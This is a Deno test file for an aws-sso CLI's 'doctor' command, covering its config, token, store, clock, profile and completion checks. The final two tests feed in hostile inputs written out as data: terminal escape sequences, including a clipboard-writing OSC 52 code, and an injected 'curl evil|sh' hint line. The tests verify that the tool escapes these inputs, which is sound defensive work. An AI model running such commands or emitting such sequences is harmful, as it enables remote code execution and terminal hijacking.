import assert from "node:assert/strict";
import { formatReport, runDoctor } from "../../../cli/commands/doctor.ts";
import { runSetupCompletions } from "../../../cli/commands/setup_completions.ts";
import { runSetupProfiles } from "../../../cli/commands/setup_profiles.ts";
import { runCache } from "../../../cli/commands/cache.ts";
import { rfc3339Utc } from "../../../lib/sso/token_manager.ts";
import { DecryptionError } from "../../../stores/backend.ts";
import { startEmulator } from "../../emulator/emulator.ts";
import { commandServices } from "../../fakes/command_services.ts";
import { runArgv, signedIn } from "./_signed_in.ts";

/** The report's lines by check name: [state, the line and its hint]. */
function report(stdout: string): Map<string, { state: string; line: string }> {
  const out = new Map<string, { state: string; line: string }>();
  let last: { state: string; line: string } | undefined;
  for (const line of stdout.split("\n")) {
    const m = line.match(
      /^(ok|warn|FAIL|skip)\s+(config|store|token|clock|aws config|completions|aws-sso-cli)\s+/,
    );
    if (m) {
      last = { state: m[1]!, line };
      out.set(m[2]!, last);
    } else if (last !== undefined && /^\s+hint: /.test(line)) {
      last.line += `\n${line.trim()}`;
    }
  }
  return out;
}

const SHELL = { SHELL: "/bin/bash" };

Deno.test("runDoctor() reports every check ok on a complete setup and returns 0", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  await using t = await signedIn(emu, { env: SHELL });
  await runCache({ configCheck: false }, t.services);
  await runSetupProfiles({ force: true }, t.next());
  await runSetupCompletions({ install: true }, t.next());
  t.output.stdout = "";
  emu.resetCounters();
  assert.equal(await runDoctor(t.next()), 0, t.output.stdout);
  const lines = report(t.output.stdout);
  assert.deepEqual([...lines.keys()], [
    "config",
    "store",
    "token",
    "clock",
    "aws config",
    "completions",
  ]);
  for (const [name, { state, line }] of lines) assert.equal(state, "ok", `${name}: ${line}`);
  assert.match(lines.get("config")!.line, /config\.yaml is valid; SSO instance Default \(http/);
  assert.match(
    lines.get("store")!.line,
    /memory, picked automatically \(SecureStore is not set\); readable/,
  );
  assert.match(lines.get("token")!.line, /valid for (59|60)m .* and is refreshed before it ends/);
  assert.match(lines.get("clock")!.line, /the local clock agrees with http:\/\/127\.0\.0\.1:\d+/);
  assert.match(
    lines.get("aws config")!.line,
    /~\/\.aws\/config has the 3 profile\(s\) of Default, up to date/,
  );
  assert.match(lines.get("completions")!.line, /installed for bash in ~\/\.bashrc/);
  assert.match(t.output.stdout, /^All checks passed\.$/m);
  assert.deepEqual(Object.keys(emu.counters), [], "one plain GET for the clock, no AWS operation");
});

Deno.test("runDoctor() without config.yaml fails that check, skips the others and checks completion", async () => {
  await using t = await commandServices({ env: { SHELL: "/usr/bin/zsh" } });
  assert.equal(await runDoctor(t.services), 1);
  const lines = report(t.output.stdout);
  assert.equal(lines.get("config")?.state, "FAIL");
  assert.match(
    lines.get("config")!.line,
    /no config file at ~\/\.config\/aws-sso\/config\.yaml\nhint: run "aws-sso setup wizard" to create one/,
  );
  for (const name of ["store", "token", "clock", "aws config"]) {
    assert.equal(lines.get(name)?.state, "skip", name);
  }
  assert.match(
    lines.get("completions")!.line,
    /^warn .*not installed for zsh\nhint: run "aws-sso setup completions --install"/,
  );
  assert.match(t.output.stdout, /^1 failed, 1 warning\(s\)\.$/m);
});

Deno.test("runDoctor() flags a config with warnings or errors", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  await using warned = await signedIn(emu, { extra: "NoSuchKey: 1\n", env: SHELL });
  await runDoctor(warned.services);
  const config = report(warned.output.stdout).get("config")!;
  assert.equal(config.state, "warn", config.line);
  assert.match(config.line, /1 warning\(s\): .*NoSuchKey/);

  await using bad = await commandServices({ config: "SSOConfig: [\n", env: SHELL });
  assert.equal(await runDoctor(bad.services), 1);
  assert.equal(report(bad.output.stdout).get("config")?.state, "FAIL");
});

Deno.test("runDoctor() fails the token check when not logged in or the session ended, warns when it can be refreshed", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  await using t = await signedIn(emu, { session: false, env: SHELL });
  assert.equal(await runDoctor(t.services), 1);
  let lines = report(t.output.stdout);
  assert.match(
    lines.get("token")!.line,
    /^FAIL +token +not logged in to SSO instance Default\nhint: run "aws-sso login"$/,
  );
  assert.equal(lines.get("aws config")?.state, "warn", "no roles cached");
  assert.match(lines.get("aws config")!.line, /the role cache has no roles for Default/);
  assert.equal(lines.get("completions")?.state, "warn");

  const issued = emu.issueToken();
  const token = {
    accessToken: issued.accessToken,
    expiresIn: 3600,
    expiresAt: rfc3339Utc(Date.now() - 60_000),
    tokenType: "Bearer",
  };
  await t.store.putToken("Default", { ...token, RefreshToken: issued.refreshToken });
  t.output.stdout = "";
  await runDoctor(t.next());
  lines = report(t.output.stdout);
  assert.equal(lines.get("token")?.state, "warn", lines.get("token")?.line);
  assert.match(lines.get("token")!.line, /expired at .*; the next command will refresh it/);

  await t.store.putToken("Default", token);
  t.output.stdout = "";
  assert.equal(await runDoctor(t.next()), 1);
  assert.match(
    report(t.output.stdout).get("token")!.line,
    /^FAIL .*the SSO session of Default expired at /,
  );
});

Deno.test("runDoctor() fails the store check when the store cannot be read, and skips the token", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  await using t = await signedIn(emu, { env: SHELL });
  t.backend.get = () => Promise.reject(new DecryptionError("wrong password for the store"));
  assert.equal(await runDoctor(t.services), 1);
  const lines = report(t.output.stdout);
  assert.match(
    lines.get("store")!.line,
    /^FAIL .*secure store \(automatic\): wrong password for the store/,
  );
  assert.equal(lines.get("token")?.state, "skip");
});

Deno.test("runDoctor() measures the clock against the SSO endpoint's Date header", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  await using t = await signedIn(emu, { env: SHELL });
  emu.setFaults({ clockSkewMs: 10 * 60_000 });
  assert.equal(await runDoctor(t.services), 1);
  const far = report(t.output.stdout).get("clock")!;
  assert.match(
    far.line,
    /^FAIL .*the local clock is (599|600|601)s behind http:\/\/127\.0\.0\.1:\d+\nhint: set the system clock right/,
  );

  emu.setFaults({ clockSkewMs: -2 * 60_000 });
  t.output.stdout = "";
  await runDoctor(t.next());
  assert.match(report(t.output.stdout).get("clock")!.line, /^warn .*(119|120|121)s ahead of/);
  await emu.close();
  t.output.stdout = "";
  await runDoctor(t.next());
  assert.match(
    report(t.output.stdout).get("clock")!.line,
    /^warn .*cannot reach .* to compare clocks/,
  );
});

Deno.test("runDoctor() checks the aws-sso profiles in ~/.aws/config: missing, out of date, no END marker", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  await using t = await signedIn(emu, { env: SHELL });
  await runCache({ configCheck: false }, t.services);
  const file = `${t.home}/.aws/config`;
  const check = async () => {
    t.output.stdout = "";
    await runDoctor(t.next());
    return report(t.output.stdout).get("aws config")!;
  };
  let line = await check();
  assert.match(
    line.line,
    /^warn .*has no aws-sso profiles for SSO instance Default\nhint: run "aws-sso setup profiles"/,
  );
  await runSetupProfiles({ force: true }, t.next());
  await Deno.writeTextFile(
    file,
    (await Deno.readTextFile(file)).replace(/^region = .*\n/m, "").replace(
      "[profile ",
      "[profile x",
    ),
  );
  line = await check();
  assert.match(line.line, /^warn .*are out of date \(\d+ line\(s\) differ\)/);
  await Deno.writeTextFile(file, "# BEGIN_AWS_SSO_CLI\n[profile a]\n");
  line = await check();
  assert.equal(line.state, "FAIL", line.line);
  assert.match(line.line, /has no matching "# END_AWS_SSO_CLI" line/);
});

Deno.test("runDoctor() says when the completion is stale, and has nothing to check for other shells", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  await using t = await signedIn(emu, { env: SHELL });
  await Deno.writeTextFile(`${t.home}/.bashrc`, "# BEGIN_AWS_SSO_CLI\nold\n# END_AWS_SSO_CLI\n");
  await runDoctor(t.services);
  assert.match(
    report(t.output.stdout).get("completions")!.line,
    /^warn .*installed for bash in ~\/\.bashrc, but for another aws-sso or version/,
  );
  await using tcsh = await signedIn(emu, { env: { SHELL: "/bin/tcsh" } });
  await runDoctor(tcsh.services);
  assert.match(
    report(tcsh.output.stdout).get("completions")!.line,
    /^ok .*unsupported shell: tcsh: nothing to check/,
  );
});

Deno.test("formatReport() aligns the names, indents hints under warn and fail, and colours on request", () => {
  const results = [
    { name: "config", state: "ok" as const, detail: "fine", hint: "not shown" },
    { name: "aws config", state: "warn" as const, detail: "old", hint: "update it" },
  ];
  assert.equal(
    formatReport(results),
    "ok    config      fine\nwarn  aws config  old\n                  hint: update it\n0 failed, 1 warning(s).\n",
  );
  assert.match(
    formatReport(results, (s, t) => `<${s}>${t}`),
    /^<ok>ok {4}config {6}fine\n<warn>warn {2}aws config {2}old\n/,
  );
});

Deno.test("doctor is wired to runDoctor and exits 1 when a check fails", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  await using t = await signedIn(emu, { session: false, env: SHELL });
  assert.equal(await runArgv(t, ["doctor"]), 1);
  assert.match(t.output.stdout, /^FAIL +token /m);
});

Deno.test("runDoctor() escapes control characters from config.yaml in details and hints (no raw ESC/BEL)", async () => {
  await using emu = await startEmulator({ accounts: 1 });
  const name = String.raw`"Corp\e]0;owned\a"`;
  await using t = await commandServices({
    emulator: emu,
    env: SHELL,
    config: `DefaultSSO: ${name}\nSSOConfig:\n  ${name}:\n    SSORegion: ${emu.region}\n` +
      `    StartUrl: ${emu.startUrl}\n"Bad\\e[2JKey\\nhint: curl evil|sh": 1\n`,
  });
  await runDoctor(t.services);
  const out = t.output.stdout;
  // deno-lint-ignore no-control-regex -- the attack is control characters
  assert.doesNotMatch(out, /[\x00-\x09\x0b-\x1f\x7f]/, JSON.stringify(out));
  assert.match(out, /SSO instance Corp\\x1b\]0;owned\\x07 \(http/);
  assert.match(out, /Bad\\x1b\[2JKey\\nhint: curl evil\|sh/);
  assert.doesNotMatch(out, /^\s*hint: curl/m);
});

Deno.test("formatReport() escapes control characters in details and hints", () => {
  const text = formatReport([
    { name: "store", state: "fail", detail: "x\x1b]52;c;ZXZpbA==\x07", hint: "h\r\nhint: evil" },
  ]);
  assert.equal(
    text,
    "FAIL  store  x\\x1b]52;c;ZXZpbA==\\x07\n" +
      "             hint: h\\r\\nhint: evil\n1 failed, 0 warning(s).\n",
  );
});
